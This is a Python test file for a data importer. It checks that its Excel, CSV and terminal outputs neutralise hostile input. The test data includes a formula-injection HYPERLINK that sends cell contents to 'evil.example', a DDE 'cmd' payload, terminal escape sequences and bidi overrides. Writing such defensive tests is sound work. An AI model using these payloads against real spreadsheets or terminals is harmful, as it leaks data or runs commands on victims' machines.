"""Outputs are inert and nothing hostile reaches the terminal: the annotated workbook, the CSVs
and the summary, written from real rows and read back the way a person's tools read them."""

from __future__ import annotations

import datetime as dt
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import BASIC_MAPPING, read_csv

from importer.checks import ValidationSummary
from importer.errors import ConfigError
from importer.issues import Issue
from importer.readers import SourceRow
from importer.report import AnnotatedWorkbook, ErrorReport, RejectedRows, summary_lines

HYPERLINK = '=HYPERLINK("http://evil.example/"&A2,"x")'
# What a terminal acts on: C0 controls (ESC, BEL, CR, backspace, newline, tab), DEL, C1, bidi.
TERMINAL_CONTROLS = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# What XML 1.0 cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE).
NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
MARKER = " … [clipped: 40,000 characters, an Excel cell holds 32,767]"


def annotate(path: Path, headers: list[str], rows: list[tuple[SourceRow, list[Issue]]]) -> Path:
    book = AnnotatedWorkbook(path, headers)
    for row, found in rows:
        book.write(row, found)
    book.close()
    return path


def xml_parts(path: Path) -> dict[str, str]:
    """Every XML part of the workbook, as Excel will parse it."""
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.endswith((".xml", ".vml"))]
        return {n: archive.read(n).decode("utf-8") for n in names}


def sheet_rows(path: Path) -> list[list[object]]:
    from openpyxl import load_workbook

    return [[c.value for c in row] for row in load_workbook(path).active.iter_rows()]


def test_every_text_in_the_annotated_workbook_is_a_text_cell_never_a_formula(tmp_path):
    """Headers, values and the problems column that start with = + - @ (or read like an error
    value) are text cells with the exact text; numbers, dates and booleans stay typed."""
    from openpyxl import load_workbook

    headers = [HYPERLINK, "Name", "Phone", "Score", "Since", "Active"]
    message = f"'{HYPERLINK}' is not a name"
    since, at = dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 3, 4)
    issue = Issue(2, "Name", "candidate.first_name", "@SUM(A1:A9)", "invalid_value", message)
    rows = [
        (SourceRow(2, ("=1+1", "@SUM(A1:A9)", "+49 151 1234", 3.5, since, True)), [issue]),
        (SourceRow(3, ("-2+3+cmd|' /C calc'!A0", "#N/A", "=", 7, at, False)), []),
    ]
    target = annotate(tmp_path / "out.xlsx", headers, rows)

    for name, xml in xml_parts(target).items():
        assert not re.search(r"<f[\s>/]", xml), f"a formula in {name}"
    assert sheet_rows(target) == [
        ["source row", *headers, "problems"],
        [
            2,
            "=1+1",
            "@SUM(A1:A9)",
            "+49 151 1234",
            3.5,
            dt.datetime(2026, 1, 2),
            True,
            f"Name: {message}",
        ],
        [3, "-2+3+cmd|' /C calc'!A0", "#N/A", "=", 7, at, False, None],
    ]
    sheet = load_workbook(target).active
    assert [c.data_type for c in sheet[1]] == ["s"] * 8
    assert [c.data_type for c in sheet[3]][1:7] == ["s", "s", "s", "n", "d", "b"]
    # Text that starts like a formula keeps Excel's quote prefix, so editing it there keeps it text.
    assert sheet["B1"].quotePrefix and sheet["B2"].quotePrefix and sheet["D2"].quotePrefix
    assert not sheet["C3"].quotePrefix and sheet["C2"].comment.text == f"invalid_value: {message}"


def test_characters_xml_cannot_hold_are_escaped_visibly_everywhere(tmp_path):
    """A control character in a header, value, comment or the problems column no longer stops
    the run or corrupts the workbook: it is shown as an escape where it was; tab and newline,
    which a cell can hold, stay as they are."""
    headers = ["Na\x01me", "Notes"]
    message = "'Wo\x01lf' has \x1b[2J"
    found = [Issue(2, "Na\x01me", "candidate.first_name", "Wo\x01lf", "invalid_value", message)]
    rows = [(SourceRow(2, ("Wo\x01lf", "a\tb\nc \x00\x0b\x1f \udc80")), found)]
    target = annotate(tmp_path / "out.xlsx", headers, rows)

    for name, xml in xml_parts(target).items():
        assert not NOT_XML.search(xml), f"a character XML cannot hold in {name}"
    assert sheet_rows(target) == [
        ["source row", "Na\\x01me", "Notes", "problems"],
        [2, "Wo\\x01lf", "a\tb\nc \\x00\\x0b\\x1f \\udc80", "Na\\x01me: 'Wo\\x01lf' has \\x1b[2J"],
    ]
    from openpyxl import load_workbook

    comment = load_workbook(target).active["B2"].comment.text
    assert comment == "invalid_value: 'Wo\\x01lf' has \\x1b[2J"


def test_text_over_excels_cell_limit_is_clipped_with_a_marker_saying_so(tmp_path):
    """Excel holds 32,767 characters (UTF-16 units) in a cell or comment; more makes a workbook
    it calls corrupt, and openpyxl's silent cut would hide that anything is missing."""
    long_text = "x" * 40_000
    emoji = "😀" * 20_000  # 20,000 characters, but 40,000 UTF-16 units: over Excel's limit
    found = [Issue(2, "CV", "candidate.cv", long_text, "invalid_value", long_text)]
    rows = [(SourceRow(2, (long_text, emoji)), found)]
    target = annotate(tmp_path / "out.xlsx", ["CV", "Emoji"], rows)

    _, cv, emojis, problems = sheet_rows(target)[1]
    assert cv.endswith(MARKER) and cv == "x" * (32_767 - len(MARKER)) + MARKER
    assert emojis.endswith(" … [clipped: 40,000 characters, an Excel cell holds 32,767]")
    assert len(emojis.encode("utf-16-le")) // 2 <= 32_767
    assert set(emojis.split(" … ")[0]) == {"😀"}
    assert problems.startswith("CV: xxx") and len(problems) == 32_767
    assert problems.endswith(" … [clipped: 40,004 characters, an Excel cell holds 32,767]")
    from openpyxl import load_workbook

    comment = load_workbook(target).active["B2"].comment.text
    assert comment.startswith("invalid_value: xxx") and len(comment) == 32_767
    assert comment.endswith(" … [clipped: 40,015 characters, an Excel cell holds 32,767]")


def test_an_input_wider_than_an_xlsx_holds_is_refused_before_anything_is_written(tmp_path):
    """The sheet adds 'source row' and 'problems': over 16,382 input columns cannot fit, and
    the user learns it at the start, with what to use instead; 16,382 fit exactly."""
    from openpyxl import load_workbook

    target = tmp_path / "out.xlsx"
    for columns in (16_383, 16_385):
        with pytest.raises(ConfigError) as refused:
            AnnotatedWorkbook(target, [f"c{i}" for i in range(columns)])
        message = str(refused.value)
        assert f"the input has {columns:,} columns" in message and "at most 16,384" in message
        assert "--report" in message and "--rejects" in message
        assert list(tmp_path.iterdir()) == []

    headers = [f"c{i}" for i in range(16_382)]
    annotate(target, headers, [(SourceRow(2, tuple(range(16_382))), [])])
    sheet = load_workbook(target).active
    assert sheet.max_column == 16_384 and sheet.cell(1, 16_384).value == "problems"


@pytest.mark.parametrize("name", ["out.csv", "out.xls", "out.xlsx.csv", "out"])
def test_an_annotated_workbook_not_named_xlsx_is_refused(tmp_path, name):
    """openpyxl writes a zip whatever the name; Excel then refuses a `.csv` or `.xls` holding it."""
    with pytest.raises(ConfigError, match=r"--annotated writes an Excel workbook; name it \.xlsx"):
        AnnotatedWorkbook(tmp_path / name, ["Name"])
    assert list(tmp_path.iterdir()) == []
    AnnotatedWorkbook(tmp_path / "OUT.XLSX", ["Name"]).close()  # the suffix in any case
    assert (tmp_path / "OUT.XLSX").is_file()


def test_the_terminal_summary_carries_no_control_character_from_the_file():
    """Column names, codes, messages and the source description are printed escaped: no ESC
    sequence sets the title or clears the screen, no bidi override reorders the line, and each
    problem stays on one line."""
    hostile = "'\x1b]0;pwned\x07' \x1b[2J \x9b31m \u202eevil\u2069 a\nb\tc\rd\x08\x7f"
    summary = ValidationSummary()
    summary.add_issues(
        [
            Issue(2, "Na\x1bme\u202e", "candidate.first_name", hostile, "bad\x07code", hostile),
            Issue(2, "Email", "candidate.email", "x", "invalid_email", "'x\u2066' is not valid"),
        ]
    )
    lines = summary_lines(summary, "in\x1b[2J.csv, sheet '\x1b]0;x\x07'")

    assert [line for line in lines if TERMINAL_CONTROLS.search(line)] == []
    assert lines[0] == "Read in\\x1b[2J.csv, sheet '\\x1b]0;x\\x07'"
    assert ["bad\\x07code", "1"] in [line.split() for line in lines]
    table = lines[lines.index("First 2 problems:") + 1 :]
    assert len(table) == 3  # the heading and one line per problem
    assert "Na\\x1bme\\u202e" in table[1]
    assert "'\\x1b]0;pwned\\x07' \\x1b[2J \\x9b31m \\u202eevil" in table[1]
    assert table[2].endswith("'x\\u2066' is not valid")


def test_printable_escapes_what_a_terminal_acts_on_and_keeps_every_other_character():
    from importer.report import printable

    assert printable("\x1b]0;pwned\x07") == "\\x1b]0;pwned\\x07"
    assert printable("a\nb\tc\rd\x08\x00\x7f") == "a\\nb\\tc\\rd\\x08\\x00\\x7f"
    assert printable("\x85\x9b\u202a\u202e\u2066\u2069\u200f\u2028") == (
        "\\x85\\x9b\\u202a\\u202e\\u2066\\u2069\\u200f\\u2028"
    )
    assert printable("\udc80") == "\\udc80"  # a lone surrogate would crash the print instead
    names = "Jürgen Müller-Łukasiewicz, 山田, שלום, 😀 ok"
    assert printable(names) == names
    lines = "line 1\n\tline 2\r\x1b[2J"
    assert printable(lines, keep_newlines=True) == "line 1\n\tline 2\\r\\x1b[2J"


def test_terminal_json_is_the_exact_data_with_nothing_raw_a_terminal_acts_on():
    """`--json` stays machine-exact (json.loads gives back every value) and readable (umlauts
    raw), but C1 controls, DEL and bidi controls, which json.dumps leaves raw, are escaped."""
    from importer.report import terminal_json

    message = "Jürgen \x1b[2J \x07 \x7f \x85 \x9b31m \u202eevil\u2066 \udc80"
    data = {"message": message, "\u202ekey": [1, None]}
    text = terminal_json(data)
    assert json.loads(text) == data
    assert not TERMINAL_CONTROLS.search(text.replace("\n", ""))  # indent=2: only newlines
    assert "Jürgen" in text and "\\u202e" in text and "\\u009b" in text and "\\udc80" in text


def test_csv_outputs_keep_the_exact_text_and_guard_only_formula_starts(tmp_path):
    """CSV cells are data: control characters stay (the rejects import again with the same
    values); a cell a spreadsheet would run, a leading NUL included, gets a leading '."""
    values = ["Wo\x01lf", "\x1b[2J", "=1+1", "\x00=1+1", "\t=1+1", " =1+1", "+49 151 1234", "-5"]
    report_path, rejects_path = tmp_path / "report.csv", tmp_path / "rejects.csv"
    message = "'Wo\x01lf' \x1b[2J"
    found = [Issue(2, "Name", "candidate.first_name", "Wo\x01lf", "invalid_value", message)]
    with ErrorReport(report_path) as report:
        report.write(found)
    with RejectedRows(rejects_path, ["=Name", *values[1:]]) as rejects:
        rejects.write(SourceRow(2, tuple(values)), found)

    (line,) = read_csv(report_path)
    assert line["value"] == "Wo\x01lf" and line["message"] == "'Wo\x01lf' \x1b[2J"
    (row,) = read_csv(rejects_path)
    assert list(row)[0] == "'=Name"
    assert list(row.values())[:-1] == [
        "Wo\x01lf",
        "\x1b[2J",
        "'=1+1",
        "'\x00=1+1",
        "'\t=1+1",
        " =1+1",
        "+49 151 1234",
        "-5",
    ]


def test_validate_writes_every_output_from_a_hostile_file(tmp_path, write_csv, write_mapping):
    """A control character and formulas in the input: `validate` exits 1 for its invalid rows,
    with all three files complete and inert, and a summary that cannot drive the terminal."""
    from openpyxl import load_workbook

    from importer.cli import main

    rows = [
        ["First", "Last", "Email", HYPERLINK],
        ["Wo\x01lf", "Weber", "not-an-email", "=1+1"],
        ['=HYPERLINK("http://evil.example/","x")', "", "anna@example.com", "+SUM(1)"],
        ["Jonas", "Klein", "\x1b]0;pwned\x07jonas@example.com", "\u202e\x9b2J"],
        ["Lena", "Koch", "lena@example.com", "-2+3"],
    ]
    source, mapping = write_csv(rows), write_mapping(BASIC_MAPPING)
    annotated, report, rejects = tmp_path / "out.xlsx", tmp_path / "r.csv", tmp_path / "j.csv"
    args = ["validate", source, "-m", mapping, "--annotated", annotated]
    args += ["--report", report, "--rejects", rejects]
    result = CliRunner().invoke(main, [str(a) for a in args])

    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert not TERMINAL_CONTROLS.search(result.output.replace("\n", ""))
    assert "Rows read: 4   valid: 1   invalid: 3   problems: 4" in result.output
    assert [(r["row"], r["code"]) for r in read_csv(report)] == [
        ("2", "control_character"),
        ("2", "invalid_email"),
        ("3", "required"),
        ("4", "control_character"),
    ]
    rejected = read_csv(rejects)
    assert [(r["First"], r["Email"]) for r in rejected] == [
        ("Wo\x01lf", "not-an-email"),
        ('\'=HYPERLINK("http://evil.example/","x")', "anna@example.com"),
        ("Jonas", "\x1b]0;pwned\x07jonas@example.com"),
    ]
    assert [r["'" + HYPERLINK] for r in rejected] == ["'=1+1", "'+SUM(1)", "\u202e\x9b2J"]
    for name, xml in xml_parts(annotated).items():
        assert not re.search(r"<f[\s>/]", xml) and not NOT_XML.search(xml), name
    assert sheet_rows(annotated) == [
        ["source row", "First", "Last", "Email", HYPERLINK, "problems"],
        [
            2,
            "Wo\\x01lf",
            "Weber",
            "not-an-email",
            "=1+1",
            "First: holds the control character '\\x01' at position 3, which no ATS shows;"
            " remove it from the cell.; Email: 'not-an-email' is not an email address;"
            " expected name@example.com.",
        ],
        [
            3,
            '=HYPERLINK("http://evil.example/","x")',
            None,
            "anna@example.com",
            "+SUM(1)",
            "Last: 'Last' is empty; candidate.last_name is required.",
        ],
        [
            4,
            "Jonas",
            "Klein",
            "\\x1b]0;pwned\\x07jonas@example.com",
            "\u202e\x9b2J",
            "Email: holds the control character '\\x1b' at position 1, which no ATS shows;"
            " remove it from the cell.",
        ],
        [5, "Lena", "Koch", "lena@example.com", "-2+3", None],
    ]
    assert load_workbook(annotated).active["D2"].comment.text.startswith("invalid_email: ")
